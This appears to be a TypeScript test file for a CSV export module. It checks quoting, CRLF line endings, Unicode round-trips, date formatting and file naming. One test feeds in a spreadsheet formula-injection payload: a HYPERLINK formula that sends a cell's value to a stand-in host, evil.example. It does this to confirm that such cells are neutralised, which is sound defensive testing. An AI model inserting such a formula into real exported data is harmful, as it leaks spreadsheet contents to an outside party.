import { describe, expect, it } from 'vitest';
import { CSV_BOM, csvField, csvFileName, csvHeaders, toCsv, type CsvColumn } from './csv';

/** A small RFC 4180 reader: quoted fields may hold commas, doubled quotes, CR and LF; records end with CRLF. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  let i = 0;
  while (i < text.length) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (ch === '"') {
        quoted = false;
        i += 1;
      } else {
        field += ch;
        i += 1;
      }
      continue;
    }
    if (ch === '"') {
      if (field !== '') throw new Error(`a quote inside an unquoted field at ${i}`);
      quoted = true;
      i += 1;
    } else if (ch === ',') {
      record.push(field);
      field = '';
      i += 1;
    } else if (ch === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 2;
    } else if (ch === '\r' || ch === '\n') {
      throw new Error(`a bare line break outside quotes at ${i}`);
    } else {
      field += ch;
      i += 1;
    }
  }
  if (quoted) throw new Error('an unterminated quoted field');
  if (field !== '' || record.length > 0) throw new Error('the last record lacks its CRLF');
  return records;
}

interface Person {
  name: string;
  company: string | null;
  note: string;
}

const columns: CsvColumn<Person>[] = [
  { header: 'Name', value: (p) => p.name },
  { header: 'Company', value: (p) => p.company },
  { header: 'Note', value: (p) => p.note },
];

describe('CSV export', () => {
  it('round-trips commas, quotes, line breaks and non-ASCII letters', () => {
    const people: Person[] = [
      { name: 'Tran, Rebecca', company: 'Northgate "North" Health', note: 'line one\r\nline two\nline three\rfour' },
      { name: 'Zoë Ångström-Núñez', company: 'Fábrica São João 株式会社', note: 'Ελληνικά, العربية, हिन्दी' },
      { name: '"Quoted"', company: null, note: '' },
      { name: 'Plain', company: 'ACME', note: 'trailing comma,' },
    ];
    const csv = toCsv(columns, people);
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    const records = parseCsv(csv.slice(CSV_BOM.length));
    expect(records).toEqual([
      ['Name', 'Company', 'Note'],
      ...people.map((p) => [p.name, p.company ?? '', p.note]),
    ]);
    // UTF-8 bytes decode back to the same text, BOM first.
    const bytes = new TextEncoder().encode(csv);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)).toBe(csv);
  });

  it('quotes only the fields that need it and ends every record with CRLF', () => {
    expect(toCsv(columns, [{ name: 'A', company: 'B', note: 'C' }])).toBe(`${CSV_BOM}Name,Company,Note\r\nA,B,C\r\n`);
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('a\nb')).toBe('"a\nb"');
    expect(csvField(null)).toBe('');
  });

  it("neutralises cells a spreadsheet would run as a formula", () => {
    const attack = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const csv = toCsv(columns, [
      { name: attack, company: '+1 555 0100', note: '-2+3' },
      { name: '@SUM(A1:A2)', company: '\tindented', note: '\rcarriage' },
    ]);
    const [, first, second] = parseCsv(csv.slice(CSV_BOM.length));
    expect(first).toEqual([`'${attack}`, "'+1 555 0100", "'-2+3"]);
    expect(second).toEqual(["'@SUM(A1:A2)", "'\tindented", "'\rcarriage"]);
    // Harmless text is left alone, including an equals sign that is not first.
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField(-5)).toBe('-5');
  });

  it('writes dates as ISO text and names the file by the day', () => {
    // ISO 8601 with the offset of the staff member's zone (issue 21); UTC when none is given.
    expect(csvField(new Date('2025-03-18T14:05:00Z'))).toBe('2025-03-18T14:05:00+00:00');
    expect(csvField(new Date('2025-03-18T14:05:00Z'), 'Asia/Kolkata')).toBe('2025-03-18T19:35:00+05:30');
    expect(csvField(new Date('2025-03-18T14:05:00Z'), 'America/Chicago')).toBe('2025-03-18T09:05:00-05:00');
    expect(csvFileName('leads', new Date('2025-03-18T23:59:00Z'))).toBe('leads-2025-03-18.csv');
    expect(new Headers(csvHeaders('leads-2025-03-18.csv')).get('Content-Disposition')).toBe(
      'attachment; filename="leads-2025-03-18.csv"',
    );
  });
});
